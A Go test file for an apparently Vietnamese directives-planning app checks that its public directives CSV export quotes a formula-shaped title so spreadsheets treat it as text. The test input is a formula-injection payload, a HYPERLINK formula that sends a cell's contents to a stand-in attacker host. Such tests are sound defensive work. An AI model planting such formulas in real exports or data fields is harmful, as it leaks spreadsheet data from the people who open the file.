package handlers_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"roviec/models"
)

// TestPublicCSVHoldsNoFormula: a directive's title typed as a formula
// reaches the public directives CSV, which anyone may download and open in
// a spreadsheet, as text (with a leading quote), as the committee's exports
// write it.
func TestPublicCSVHoldsNoFormula(t *testing.T) {
	e := newEnv(t)
	plan := e.plans()[0]
	title := `=HYPERLINK("http://attacker.test/?"&A1;"Xem")`
	_, _, err := e.store.CreateDirective(context.Background(), models.DirectiveInput{ThemeID: e.themeID(3), Title: title,
		AgencyCodes: []string{"01"}}, nil, e.clock.Now())
	if err != nil {
		t.Fatal(err)
	}
	expectStatus(t, e.do("PUT", "/api/v1/plans/"+itoa(plan.ID)+"/public", e.token("admin"), map[string]any{"public": true}), http.StatusOK)
	code, body, _ := publicGet(e, "/public/2023/directives.csv")
	if code != http.StatusOK {
		t.Fatalf("directives.csv: %d", code)
	}
	records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range records {
		for _, cell := range r {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if cell != "'"+title {
					t.Errorf("the title's cell is %q, want it quoted as text", cell)
				}
			}
		}
	}
	if !found {
		t.Fatalf("the directive is not in the CSV:\n%s", body)
	}
}
